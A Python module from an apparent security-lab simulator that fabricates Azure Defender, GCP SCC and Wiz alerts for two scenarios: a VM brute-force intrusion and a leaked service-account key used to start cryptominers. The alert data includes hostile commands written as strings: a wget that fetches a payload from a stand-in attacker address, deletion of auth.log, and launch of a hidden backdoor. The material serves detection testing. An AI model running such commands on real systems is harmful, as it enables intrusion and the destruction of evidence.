"""Attacks in Azure and GCP."""

from __future__ import annotations

from isthmus.lab import hostile
from isthmus.lab.scenes import Scene, seen
from isthmus.model.assets import Asset, AssetKind
from isthmus.model.findings import Tie
from isthmus.model.outside import Outside
from isthmus.model.severity import Severity

CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def azure_brute_force(scene: Scene) -> None:
    host = scene.cast.take(AssetKind.INSTANCE, "azure")
    attacker = f"203.0.113.{scene.rng.randrange(10, 90)}"
    title = "Management ports should be closed on your virtual machines"
    scene.risk("defender", host, MEDIUM, "22730e10-96f6-4aac-ad84-9383d35b5917", title)
    scene.risk("wiz", host, MEDIUM, "wc-id-88", "VM exposes RDP/SSH to the internet", internet=True)
    title = "Suspected brute-force attack attempt"
    scene.threat(0, "defender", host, MEDIUM, "VM_LoginBruteForceAttempt", title, seen(ip=attacker), attack=("T1110",))
    title = "Suspected successful brute force attack"
    scene.threat(33, "defender", host, HIGH, "VM_LoginBruteForceSuccess", title, seen(ip=attacker), attack=("T1110",))
    title = "Login from an unusual location after repeated failures"
    scene.threat(36, "wiz", host, MEDIUM, "login-after-failures", title, seen(ip=attacker), attack=("T1078",))
    _malware(scene, host)


def _malware(scene: Scene, host: Asset) -> None:
    download = seen(process="wget -q http://203.0.113.99/b.sh -O /tmp/.b", ip="203.0.113.99")
    scene.threat(41, "defender", host, LOW, "VM_SuspectDownload", "Suspicious download operation", download)
    title = "Attempt to clear logs and history"
    clear = seen(process="rm -f /var/log/auth.log")
    scene.threat(49, "defender", host, MEDIUM, "VM_LogClearing", title, clear, attack=("T1070",))
    digest = f"{scene.rng.getrandbits(256):064x}"
    title = "Malware found: backdoor in /tmp/.b"
    started = seen(hash=digest, process="/tmp/.b -d")  # noqa: S108 - what the malware was started as
    scene.threat(58, "wiz", host, HIGH, "malware-on-workload", title, started)
    title = "Communication with suspicious domain identified by threat intelligence"
    call = seen(domain=f"upd{scene.rng.randrange(1000)}.example")
    scene.threat(64, "defender", host, MEDIUM, "AzureDNS_ThreatIntelSuspectDomain", title, call, text=hostile.ORDERS[4])


def gcp_key_abused(scene: Scene) -> None:
    account = scene.cast.take(AssetKind.SERVICE_ACCOUNT, "gcp")
    attacker = f"203.0.113.{scene.rng.randrange(100, 190)}"
    title = "Service account has a key that was not rotated for more than 90 days"
    scene.risk("scc", account, MEDIUM, "SERVICE_ACCOUNT_KEY_NOT_ROTATED", title)
    scene.risk("wiz", account, MEDIUM, "wc-id-671", "Service account with user-managed key and editor role", privileged=True)
    by = (Tie("actor", account),)
    used = seen(ip=attacker, api="iam.serviceAccounts.get", user_agent="google-cloud-sdk gcloud/455")
    title = "A leaked service account key was used"
    scene.threat(0, "scc", account, HIGH, "Initial Access: Leaked Service Account Key Used", title, used, by, attack=("T1078",))
    scene.threat(7, "scc", account, LOW, "Persistence: New Geography", "Use from a new geography", used, by)
    title = "Service account used from an unusual address"
    scene.threat(12, "wiz", account, MEDIUM, "sa-unusual-location", title, used, by)
    _miners(scene, account, attacker)


def _miners(scene: Scene, account: Asset, attacker: str) -> None:
    by = (Tie("actor", account),)
    made = seen(ip=attacker, api="v1.compute.instances.insert")
    for number in range(1, 3):
        own = f"//compute.googleapis.com/projects/{account.account}/zones/us-central1-a/instances/gpu-node-{number}"
        machine = Asset(AssetKind.INSTANCE, "gcp", account.account, "us-central1", Outside(f"gpu-node-{number}"), (own,))
        title = "Compute instance created in a region never used before"
        scene.threat(20 + number, "wiz", machine, MEDIUM, "instance-new-region", title, made, by, attack=("T1578.002",))
        pool = seen(domain=f"eu{number}.pool.example", ip="203.0.113.240")
        title, rule = "Connection to a mining pool", "Malware: Cryptomining Bad Domain"
        scene.threat(45 + number, "scc", machine, HIGH, rule, title, pool, by, attack=("T1496",))
        title = "Cryptominer process on a new machine"
        scene.threat(52 + number, "wiz", machine, HIGH, "miner-process", title, pool, by, attack=("T1496",))
